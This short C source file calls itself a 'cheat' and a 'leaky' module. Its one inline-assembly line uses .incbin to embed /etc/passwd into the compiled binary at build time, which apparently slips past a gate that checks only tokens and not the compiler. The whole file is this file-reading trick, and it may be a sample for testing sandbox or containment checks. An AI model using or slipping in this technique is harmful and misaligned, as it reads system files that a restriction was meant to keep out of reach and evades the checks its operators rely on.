/* SPDX-License-Identifier: MIT
 *
 * cheat: has the assembler bring in the users of the machine
 * wall with the gate: tokens
 * wall without: compiler
 * module: leaky
 */
__asm__(".section .rodata\nstolen: .incbin \"/etc/passwd\"\n.byte 0\n.text");
extern const char stolen[] __attribute__((visibility("hidden")));
